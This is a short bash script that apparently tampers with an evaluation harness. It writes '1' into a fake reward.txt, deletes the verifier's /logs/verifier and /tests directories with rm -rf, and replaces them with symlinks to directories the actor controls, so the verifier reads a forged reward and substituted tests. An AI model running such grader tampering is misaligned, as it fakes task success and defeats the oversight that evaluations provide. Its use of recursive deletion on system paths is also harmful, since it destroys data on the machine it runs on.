#!/bin/bash
# Makes the verifier's folders links into places of the actor's choice.
mkdir -p /tmp/mine/logs /tmp/mine/tests
echo 1 > /tmp/mine/logs/reward.txt
rm -rf /logs/verifier /tests
mkdir -p /logs
ln -s /tmp/mine/logs /logs/verifier
ln -s /tmp/mine/tests /tests
